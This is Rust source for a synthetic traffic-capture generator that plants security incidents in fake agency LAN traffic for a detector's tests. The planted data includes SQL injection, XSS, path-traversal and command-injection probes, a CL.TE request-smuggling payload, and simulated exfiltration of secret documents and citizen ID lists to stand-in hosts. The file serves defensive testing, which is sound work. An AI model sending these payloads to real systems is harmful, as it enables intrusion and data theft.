//! The agency-LAN traffic generator: a deterministic capture (same seed and size, same
//! bytes) of a provincial department's network — hosts resolving names, using the document
//! management system (QLVB), the one-stop portal (Một cửa), webmail and public sites over
//! TLS — with the incidents that Canh must detect planted in it:
//!
//! - an HTTP Basic login and an FTP login in cleartext;
//! - a DOCX and a plain-text document marked "TỐI MẬT" (top secret) sent out over HTTP;
//! - a CSV of citizens' identity numbers (CCCD) posted to an outside host;
//! - a web scanner (sqlmap, Nikto) probing the public-service portal with SQLi, XSS and path
//!   traversal;
//! - HTTP request smuggling (Content-Length and chunked in one request) against the portal;
//! - DNS queries to dynamic-DNS domains.
//!
//! [`Report::planted`] lists what was planted, so tests can check that replay finds it all.
//!
//! ```no_run
//! use canh_traffic::{generate, GenConfig};
//! let file = std::fs::File::create("lan.pcap").unwrap();
//! let report = generate(&GenConfig { seed: 7, target_bytes: 5_000_000, hosts: 40, ..GenConfig::default() }, file).unwrap();
//! assert!(!report.incidents.is_empty());
//! ```
//!
//! The citizens' numbers it plants come from its own tables ([`citizens`]), written apart from
//! the analyzer's: tests that count them check one against the other.

pub mod citizens;
pub mod content;
pub mod packets;

use std::collections::BTreeSet;
use std::io::Write;
use std::net::Ipv4Addr;
use std::time::Duration;

use base64::Engine as _;
use pcap_file::pcap::{PcapHeader, PcapPacket, PcapWriter};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use content::{
    DnsAnswer, app_data, chunked, client_finish, client_hello, dns_message, gzip, html_page, prose, random_bytes,
    server_flight,
};
pub use content::{cccd_csv, docx};
use packets::{Frames, Host, Micros, TcpSession, udp_frame};

#[derive(Debug, Clone)]
pub struct GenConfig {
    pub seed: u64,
    /// Approximate size of the capture; background traffic is added until it is reached.
    pub target_bytes: u64,
    /// Hosts on the agency LAN.
    pub hosts: u32,
    /// When the capture begins, microseconds since the epoch ([`START`] unless told: the same
    /// seed, size and start give the same bytes).
    pub start: u64,
}

impl Default for GenConfig {
    fn default() -> Self {
        Self { seed: 1, target_bytes: 20_000_000, hosts: 60, start: START }
    }
}

/// What was planted, as analysts would look for it.
#[derive(Debug, Clone, Default)]
pub struct Planted {
    /// (host, uri, user) of HTTP Basic logins.
    pub basic_logins: Vec<(String, String, String)>,
    /// (server address, user) of FTP logins.
    pub ftp_logins: Vec<(Ipv4Addr, String)>,
    /// (host, uri, filename or "") of documents marked TỐI MẬT sent out.
    pub secret_documents: Vec<(String, String, String)>,
    /// (host, uri, rows) of CCCD lists posted out.
    pub cccd_uploads: Vec<(String, String, usize)>,
    /// (portal host, scanner address, uris probed).
    pub scans: Vec<(String, Ipv4Addr, Vec<String>)>,
    pub dyndns_queries: Vec<String>,
    /// (portal host, attacker address, the uri of the request smuggled in) of HTTP request
    /// smuggling.
    pub smuggling: Vec<(String, Ipv4Addr, String)>,
    /// Every DNS query name, every HTTP (host, uri) and every TLS server name in the capture.
    pub dns_queries: BTreeSet<String>,
    pub http_requests: BTreeSet<(String, String)>,
    pub tls_server_names: BTreeSet<String>,
}

#[derive(Debug, Clone, Default)]
pub struct Report {
    pub packets: u64,
    pub bytes: u64,
    pub incidents: Vec<String>,
    pub planted: Planted,
}

/// 2026-11-02 08:00 in Hà Nội (UTC+7): a Monday morning.
pub const START: Micros = 1_793_581_200_000_000;

const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 10, 0, 53);

/// Internal services of the province (name, address).
const INTERNAL: &[(&str, Ipv4Addr)] = &[
    ("qlvb.tinh.gov.vn", Ipv4Addr::new(10, 10, 1, 10)),
    ("motcua.tinh.gov.vn", Ipv4Addr::new(10, 10, 1, 11)),
    ("mail.tinh.gov.vn", Ipv4Addr::new(10, 10, 1, 12)),
    ("intranet.tinh.gov.vn", Ipv4Addr::new(10, 10, 1, 13)),
];
const PORTAL: (&str, Ipv4Addr) = ("dichvucong.tinh.gov.vn", Ipv4Addr::new(10, 10, 1, 20));
const FTP_SERVER: Ipv4Addr = Ipv4Addr::new(10, 10, 1, 30);

const PUBLIC_TLS: &[&str] = &[
    "dichvucong.gov.vn",
    "www.google.com",
    "zalo.me",
    "login.microsoftonline.com",
    "vnexpress.net",
    "mail.google.com",
    "baochinhphu.vn",
    "thuvienphapluat.vn",
    "chinhphu.vn",
    "fonts.gstatic.com",
];
const PUBLIC_HTTP: &[&str] = &["update.bkav.com.vn", "download.windowsupdate.com", "ocsp.digicert.com", "tailieu.vn"];

/// Public names resolve into 198.18.0.0/15 (the benchmarking range), deterministically.
fn public_addr(name: &str) -> Ipv4Addr {
    let h = name.bytes().fold(2166136261u32, |h, b| (h ^ u32::from(b)).wrapping_mul(16777619));
    Ipv4Addr::new(198, 18 + (h & 1) as u8, (h >> 8) as u8, 1 + ((h >> 16) as u8 % 250))
}

struct Gen<W: Write> {
    rng: ChaCha8Rng,
    out: PcapWriter<W>,
    frames: Frames,
    /// Start of the current group of overlapping sessions.
    base: Micros,
    lan: Vec<Host>,
    next_port: u16,
    report: Report,
}

/// Sessions written together so that their packets interleave in time.
const GROUP: usize = 16;
const GROUP_SPAN: Micros = 2_000_000;

impl<W: Write> Gen<W> {
    fn host(&mut self) -> Host {
        self.lan[self.rng.random_range(0..self.lan.len())]
    }

    fn port(&mut self) -> u16 {
        self.next_port = if self.next_port >= 65000 { 32768 } else { self.next_port + 1 + self.rng.random_range(0..7) };
        self.next_port
    }

    fn start_time(&mut self) -> Micros {
        self.base + self.rng.random_range(0..GROUP_SPAN)
    }

    fn rtt(&mut self, external: bool) -> Micros {
        if external { self.rng.random_range(8_000..40_000) } else { self.rng.random_range(150..900) }
    }

    fn isn(&mut self) -> (u32, u32) {
        (self.rng.random(), self.rng.random())
    }

    /// Writes the buffered sessions in time order and moves the clock past them.
    fn flush(&mut self) -> anyhow::Result<()> {
        self.frames.sort_by_key(|(t, _)| *t);
        let mut last = self.base;
        for (t, frame) in self.frames.drain(..) {
            let packet = PcapPacket::new(Duration::from_micros(t), frame.len() as u32, &frame);
            self.out.write_packet(&packet)?;
            self.report.packets += 1;
            self.report.bytes += frame.len() as u64;
            last = t;
        }
        self.base = last.max(self.base) + 1_000;
        Ok(())
    }

    fn dns(&mut self, client: Host, name: &str, qtype: u16, answer: DnsAnswer, t: Micros) -> Micros {
        let server = Host::new(RESOLVER);
        let port = self.port();
        let id: u16 = self.rng.random();
        let query = dns_message(id, name, qtype, None);
        let response = dns_message(id, name, qtype, Some(&answer));
        self.frames.push((t, udp_frame(&client, port, &server, 53, id, &query)));
        let t2 = t + self.rng.random_range(300..30_000);
        self.frames.push((t2, udp_frame(&server, 53, &client, port, id.wrapping_add(1), &response)));
        self.report.planted.dns_queries.insert(name.to_string());
        t2
    }

    fn resolve(&mut self, client: Host, name: &str, addr: Ipv4Addr, t: Micros) -> Micros {
        let cname =
            (self.rng.random_range(0..4) == 0 && !name.ends_with("tinh.gov.vn")).then(|| format!("edge.{name}.cdn.vn"));
        self.dns(client, name, 1, DnsAnswer { cname, addrs: vec![addr], rcode: 0 }, t)
    }

    /// One HTTP/1.1 connection carrying the given exchanges (request bytes, response bytes).
    fn http(&mut self, client: Host, server: Host, port: u16, exchanges: &[(Vec<u8>, Vec<u8>)], t: Micros) -> Micros {
        let cport = self.port();
        let rtt = self.rtt(server.ip.octets()[0] != 10);
        let isn = self.isn();
        let mut s = TcpSession::open(client, cport, server, port, t, rtt, isn, &mut self.frames);
        for (req, resp) in exchanges {
            s.send(true, req);
            s.send(false, resp);
        }
        s.close()
    }

    fn record_request(&mut self, host: &str, uri: &str) {
        self.report.planted.http_requests.insert((host.to_string(), uri.to_string()));
    }

    fn request(&mut self, method: &str, host: &str, uri: &str, extra: &str, body: &[u8]) -> Vec<u8> {
        self.record_request(host, uri);
        let ua = [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
            "CocCoc/1.0 (Windows NT 10.0)",
        ][self.rng.random_range(0..3)];
        let mut r = format!(
            "{method} {uri} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nAccept-Encoding: gzip, deflate\r\n{extra}"
        );
        if !body.is_empty() || method == "POST" {
            r.push_str(&format!("Content-Length: {}\r\n", body.len()));
        }
        r.push_str("\r\n");
        let mut v = r.into_bytes();
        v.extend_from_slice(body);
        v
    }

    fn response(&mut self, status: &str, ctype: &str, body: &[u8]) -> Vec<u8> {
        let compress = ctype.starts_with("text/") && body.len() > 512 && self.rng.random_range(0..2) == 0;
        let chunk = self.rng.random_range(0..3) == 0;
        let payload = if compress { gzip(body) } else { body.to_vec() };
        let mut head = format!("HTTP/1.1 {status}\r\nServer: nginx\r\nContent-Type: {ctype}\r\n");
        if compress {
            head.push_str("Content-Encoding: gzip\r\n");
        }
        let framed = if chunk {
            head.push_str("Transfer-Encoding: chunked\r\n\r\n");
            chunked(&payload, 4096)
        } else {
            head.push_str(&format!("Content-Length: {}\r\n\r\n", payload.len()));
            payload
        };
        let mut v = head.into_bytes();
        v.extend_from_slice(&framed);
        v
    }

    fn background_http_internal(&mut self) -> anyhow::Result<()> {
        let client = self.host();
        let (name, addr) = INTERNAL[self.rng.random_range(0..INTERNAL.len())];
        let mut t = self.start_time();
        if self.rng.random_range(0..2) == 0 {
            t = self.resolve(client, name, addr, t);
        }
        let n = self.rng.random_range(1..5);
        let mut exchanges = Vec::new();
        for i in 0..n {
            let (uri, ctype, body) = match self.rng.random_range(0..5) {
                0 => (
                    format!("/static/app.{}.js", self.rng.random_range(100..999)),
                    "application/javascript",
                    prose(&mut self.rng, 3000).into_bytes(),
                ),
                1 => (
                    format!("/vanban/chitiet?id={}", self.rng.random_range(10_000..99_999)),
                    "text/html; charset=utf-8",
                    html_page(&mut self.rng, "Chi tiết văn bản", 8000).into_bytes(),
                ),
                2 => (
                    format!("/hoso/tracuu?ma=H{}", self.rng.random_range(1000..9999)),
                    "application/json",
                    format!("{{\"trang_thai\":\"dang_xu_ly\",\"ma\":{}}}", i).into_bytes(),
                ),
                3 => ("/favicon.ico".to_string(), "image/x-icon", random_bytes(&mut self.rng, 1150)),
                _ => {
                    let size = self.rng.random_range(2000..40_000);
                    (
                        "/".to_string(),
                        "text/html; charset=utf-8",
                        html_page(&mut self.rng, "Trang chủ", size).into_bytes(),
                    )
                }
            };
            let req = self.request("GET", name, &uri, "Connection: keep-alive\r\n", &[]);
            let resp = self.response("200 OK", ctype, &body);
            exchanges.push((req, resp));
        }
        self.http(client, Host::new(addr), 80, &exchanges, t);
        Ok(())
    }

    fn background_http_download(&mut self) {
        let client = self.host();
        let name = PUBLIC_HTTP[self.rng.random_range(0..PUBLIC_HTTP.len())];
        let addr = public_addr(name);
        let t = self.start_time();
        let t = self.resolve(client, name, addr, t);
        let size = self.rng.random_range(20_000..600_000);
        let (uri, ctype, mut body) = if self.rng.random_range(0..2) == 0 {
            (format!("/files/bantin-{}.pdf", self.rng.random_range(1..500)), "application/pdf", b"%PDF-1.5\n".to_vec())
        } else {
            (format!("/update/pkg-{}.bin", self.rng.random_range(1..500)), "application/octet-stream", Vec::new())
        };
        body.extend_from_slice(&random_bytes(&mut self.rng, size));
        let req = self.request("GET", name, &uri, "", &[]);
        let resp = self.response("200 OK", ctype, &body);
        self.http(client, Host::new(addr), 80, &[(req, resp)], t);
    }

    fn background_tls(&mut self, chain: &[&[u8]]) {
        let client = self.host();
        let sni = PUBLIC_TLS[self.rng.random_range(0..PUBLIC_TLS.len())];
        let addr = public_addr(sni);
        let t = self.start_time();
        let t = if self.rng.random_range(0..2) == 0 { self.resolve(client, sni, addr, t) } else { t };
        let profile = self.rng.random_range(0..3);
        let tls13 = profile != 2 && self.rng.random_range(0..10) < 7;
        let hello = client_hello(&mut self.rng, sni, profile);
        let flight = server_flight(&mut self.rng, tls13, chain);
        let finish = client_finish(&mut self.rng);
        let (up_len, down_len) = (self.rng.random_range(500..20_000), self.rng.random_range(2_000..200_000));
        let up = app_data(&mut self.rng, up_len);
        let down = app_data(&mut self.rng, down_len);
        let cport = self.port();
        let rtt = self.rtt(true);
        let isn = self.isn();
        let mut s = TcpSession::open(client, cport, Host::new(addr), 443, t, rtt, isn, &mut self.frames);
        s.send(true, &hello);
        s.send(false, &flight);
        s.send(true, &finish);
        s.send(true, &up);
        s.send(false, &down);
        s.close();
        self.report.planted.tls_server_names.insert(sni.to_string());
    }

    fn background_dns(&mut self) {
        let client = self.host();
        let mut t = self.start_time();
        for _ in 0..self.rng.random_range(1..4) {
            let pick = self.rng.random_range(0..10);
            t = if pick < 6 {
                let name = PUBLIC_TLS[self.rng.random_range(0..PUBLIC_TLS.len())];
                let qtype = if self.rng.random_range(0..3) == 0 { 28 } else { 1 };
                let addrs = if qtype == 1 { vec![public_addr(name)] } else { vec![] };
                self.dns(client, name, qtype, DnsAnswer { cname: None, addrs, rcode: 0 }, t)
            } else if pick < 8 {
                self.dns(client, "tinh.gov.vn", 15, DnsAnswer { cname: None, addrs: vec![], rcode: 0 }, t)
            } else {
                let name = format!("wpad{}.tinh.local", self.rng.random_range(0..9));
                self.dns(client, &name, 1, DnsAnswer { cname: None, addrs: vec![], rcode: 3 }, t)
            } + 50_000;
        }
    }

    // ---- incidents ----

    fn plant_basic_login(&mut self) {
        let client = self.host();
        let (name, addr) = INTERNAL[0];
        let t = self.start_time();
        let user = "admin";
        let token = base64::engine::general_purpose::STANDARD.encode(format!("{user}:Matkhau@123"));
        let req = self.request("GET", name, "/quantri/", &format!("Authorization: Basic {token}\r\n"), &[]);
        let body = html_page(&mut self.rng, "Quản trị hệ thống", 3000);
        let resp = self.response("200 OK", "text/html; charset=utf-8", body.as_bytes());
        self.http(client, Host::new(addr), 80, &[(req, resp)], t);
        self.report.planted.basic_logins.push((name.into(), "/quantri/".into(), user.into()));
        self.report.incidents.push("HTTP Basic login in cleartext".into());
    }

    fn plant_ftp_login(&mut self) {
        let client = self.host();
        let t = self.start_time();
        let cport = self.port();
        let isn = self.isn();
        let mut s = TcpSession::open(client, cport, Host::new(FTP_SERVER), 21, t, 400, isn, &mut self.frames);
        s.send(false, b"220 (vsFTPd 3.0.5) Trung tam du lieu tinh\r\n");
        s.send(true, b"USER vanthu\r\n");
        s.send(false, b"331 Please specify the password.\r\n");
        s.send(true, b"PASS VanThu@2026\r\n");
        s.send(false, b"230 Login successful.\r\n");
        s.send(true, b"QUIT\r\n");
        s.send(false, b"221 Goodbye.\r\n");
        s.close();
        self.report.planted.ftp_logins.push((FTP_SERVER, "vanthu".into()));
        self.report.incidents.push("FTP login in cleartext".into());
    }

    fn plant_secret_docx(&mut self) {
        let client = self.host();
        let name = "sendfile.example.com";
        let addr = public_addr(name);
        let t = self.start_time();
        let t = self.resolve(client, name, addr, t);
        let doc = docx(&[
            "ỦY BAN NHÂN DÂN TỈNH",
            "TỐI MẬT",
            "BÁO CÁO Tình hình an ninh mạng quý IV",
            &prose(&mut self.rng, 600),
        ]);
        let filename = "bao-cao-quy-iv.docx";
        let req = self.request(
            "POST",
            name,
            "/upload",
            &format!("Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\r\nContent-Disposition: attachment; filename=\"{filename}\"\r\n"),
            &doc,
        );
        let resp = self.response("201 Created", "application/json", br#"{"ok":true}"#);
        self.http(client, Host::new(addr), 80, &[(req, resp)], t);
        self.report.planted.secret_documents.push((name.into(), "/upload".into(), filename.into()));
        self.report.incidents.push("DOCX marked TỐI MẬT sent out over HTTP".into());
    }

    fn plant_secret_text(&mut self) {
        let client = self.host();
        let name = "paste.example.org";
        let addr = public_addr(name);
        let t = self.start_time();
        let t = self.resolve(client, name, addr, t);
        let text =
            format!("UBND TỈNH\nĐộ mật: TỐI MẬT\nKế hoạch bảo đảm an toàn thông tin\n{}", prose(&mut self.rng, 1500));
        let req =
            self.request("POST", name, "/api/paste", "Content-Type: text/plain; charset=utf-8\r\n", text.as_bytes());
        let resp = self.response("200 OK", "application/json", br#"{"id":"x81k"}"#);
        self.http(client, Host::new(addr), 80, &[(req, resp)], t);
        self.report.planted.secret_documents.push((name.into(), "/api/paste".into(), String::new()));
        self.report.incidents.push("text marked TỐI MẬT sent out over HTTP".into());
    }

    fn plant_cccd_upload(&mut self) {
        let client = self.host();
        let name = "data-collect.example.net";
        let addr = public_addr(name);
        let t = self.start_time();
        let t = self.resolve(client, name, addr, t);
        let rows = 250;
        let csv = cccd_csv(&mut self.rng, rows);
        let req = self.request(
            "POST",
            name,
            "/import",
            "Content-Type: text/csv\r\nContent-Disposition: attachment; filename=\"danh-sach-cong-dan.csv\"\r\n",
            csv.as_bytes(),
        );
        let resp = self.response("200 OK", "text/plain", b"imported");
        self.http(client, Host::new(addr), 80, &[(req, resp)], t);
        self.report.planted.cccd_uploads.push((name.into(), "/import".into(), rows));
        self.report.incidents.push("CSV of CCCD numbers posted to an outside host".into());
    }

    fn plant_scanner(&mut self) {
        let scanner = Host::new(Ipv4Addr::new(203, 0, 113, 66));
        let portal = Host::new(PORTAL.1);
        let probes = [
            "/index.php?id=1%27%20OR%20%271%27=%271",
            "/tracuu?ma=1%20UNION%20SELECT%20username,password%20FROM%20users--",
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            "/../../../../etc/passwd",
            "/download?file=..%2F..%2F..%2Fetc%2Fshadow",
            "/.env",
            "/wp-login.php",
            "/phpmyadmin/index.php",
            "/admin/config.php.bak",
            "/cgi-bin/test.cgi?x=;cat%20/etc/passwd",
        ];
        let mut uris = Vec::new();
        let mut t = self.start_time();
        for (i, chunk) in probes.chunks(5).enumerate() {
            let ua = if i == 0 {
                "sqlmap/1.8.2#stable (https://sqlmap.org)"
            } else {
                "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"
            };
            let mut exchanges = Vec::new();
            for uri in chunk {
                self.record_request(PORTAL.0, uri);
                uris.push(uri.to_string());
                let req = format!(
                    "GET {uri} HTTP/1.1\r\nHost: {}\r\nUser-Agent: {ua}\r\nConnection: keep-alive\r\n\r\n",
                    PORTAL.0
                )
                .into_bytes();
                let resp = self.response("404 Not Found", "text/html", b"<html><body>404</body></html>");
                exchanges.push((req, resp));
            }
            let cport = self.port();
            let isn = self.isn();
            let mut s = TcpSession::open(scanner, cport, portal, 80, t, 20_000, isn, &mut self.frames);
            for (req, resp) in &exchanges {
                s.send(true, req);
                s.send(false, resp);
            }
            t = s.close() + 100_000;
        }
        self.report.planted.scans.push((PORTAL.0.into(), scanner.ip, uris));
        self.report.incidents.push("web scanner (sqlmap, Nikto) against the public-service portal".into());
    }

    /// CL.TE request smuggling against the portal: one POST framed by both Content-Length and
    /// chunked, whose chunked reading hides a second request to the admin area.
    fn plant_smuggling(&mut self) {
        let attacker = Host::new(Ipv4Addr::new(203, 0, 113, 77));
        let portal = Host::new(PORTAL.1);
        let hidden = "/quantri/xoa-ho-so?id=1";
        let smuggled = format!("GET {hidden} HTTP/1.1\r\nHost: {}\r\n\r\n", PORTAL.0);
        let body = format!("0\r\n\r\n{smuggled}");
        let req = format!(
            "POST /tracuu HTTP/1.1\r\nHost: {}\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n{body}",
            PORTAL.0,
            body.len()
        );
        self.record_request(PORTAL.0, "/tracuu");
        self.record_request(PORTAL.0, hidden);
        let ok = self.response("200 OK", "text/html", b"<html><body>OK</body></html>");
        let denied = self.response("403 Forbidden", "text/html", b"<html><body>403</body></html>");
        let (t, cport, isn) = (self.start_time(), self.port(), self.isn());
        let mut s = TcpSession::open(attacker, cport, portal, 80, t, 20_000, isn, &mut self.frames);
        s.send(true, req.as_bytes());
        s.send(false, &ok);
        s.send(false, &denied);
        s.close();
        self.report.planted.smuggling.push((PORTAL.0.into(), attacker.ip, hidden.into()));
        self.report.incidents.push("HTTP request smuggling (CL.TE) against the public-service portal".into());
    }

    fn plant_dyndns(&mut self) {
        let client = self.host();
        let mut t = self.start_time();
        for name in ["cap-nhat-he-thong.duckdns.org", "vpn-tinh.ddns.net", "kho-du-lieu.no-ip.org"] {
            let addr = public_addr(name);
            t = self.dns(client, name, 1, DnsAnswer { cname: None, addrs: vec![addr], rcode: 0 }, t) + 200_000;
            self.report.planted.dyndns_queries.push(name.into());
        }
        self.report.incidents.push("DNS queries to dynamic-DNS domains".into());
    }
}

type Incident<W> = fn(&mut Gen<W>);

/// Writes the capture to `out`; returns what it holds.
pub fn generate<W: Write>(cfg: &GenConfig, out: W) -> anyhow::Result<Report> {
    let header = PcapHeader { snaplen: 65_535, ..Default::default() };
    let writer = PcapWriter::with_header(out, header)?;
    let hosts = cfg.hosts.clamp(1, 60_000);
    let lan = (0..hosts).map(|i| Host::new(Ipv4Addr::new(10, 10, 2 + (i / 250) as u8, 10 + (i % 250) as u8))).collect();
    let mut g = Gen {
        rng: ChaCha8Rng::seed_from_u64(cfg.seed),
        out: writer,
        frames: Vec::new(),
        base: cfg.start,
        lan,
        next_port: 40_000,
        report: Report::default(),
    };
    let leaf = include_bytes!("../data/leaf.der").as_slice();
    let ca = include_bytes!("../data/ca.der").as_slice();
    let chain = [leaf, ca];
    let incidents: [Incident<W>; 9] = [
        Gen::plant_dyndns,
        Gen::plant_basic_login,
        Gen::plant_ftp_login,
        Gen::plant_scanner,
        Gen::plant_smuggling,
        Gen::plant_secret_docx,
        Gen::plant_secret_text,
        Gen::plant_cccd_upload,
        Gen::plant_dyndns_followup,
    ];
    let mut next_incident = 0;
    let mut in_group = 0;
    loop {
        let written = g.report.bytes;
        // Incident k goes in once the capture is (k+1)/(n+1) full, so they spread out.
        let due = (written as u128 * (incidents.len() as u128 + 1) / u128::from(cfg.target_bytes.max(1))) as usize;
        if next_incident < incidents.len() && (next_incident < due || written >= cfg.target_bytes) {
            incidents[next_incident](&mut g);
            next_incident += 1;
        } else if written >= cfg.target_bytes {
            break;
        } else {
            match g.rng.random_range(0..10) {
                0..=2 => g.background_dns(),
                3..=5 => g.background_http_internal()?,
                6 => g.background_http_download(),
                _ => g.background_tls(&chain),
            }
        }
        in_group += 1;
        if in_group == GROUP {
            g.flush()?;
            in_group = 0;
        }
    }
    g.flush()?;
    g.out.into_writer().flush()?;
    Ok(g.report)
}

impl<W: Write> Gen<W> {
    /// The host that queried dynamic DNS later reaches one of the names over TLS.
    fn plant_dyndns_followup(&mut self) {
        let client = self.lan[0];
        let sni = "vpn-tinh.ddns.net";
        let addr = public_addr(sni);
        let t = self.start_time();
        let hello = client_hello(&mut self.rng, sni, 2);
        let flight = server_flight(&mut self.rng, false, &[include_bytes!("../data/leaf.der")]);
        let isn = self.isn();
        let cport = self.port();
        let mut s = TcpSession::open(client, cport, Host::new(addr), 443, t, 30_000, isn, &mut self.frames);
        s.send(true, &hello);
        s.send(false, &flight);
        s.reset();
        self.report.planted.tls_server_names.insert(sni.to_string());
        self.report.incidents.push("TLS to a dynamic-DNS host".into());
    }
}
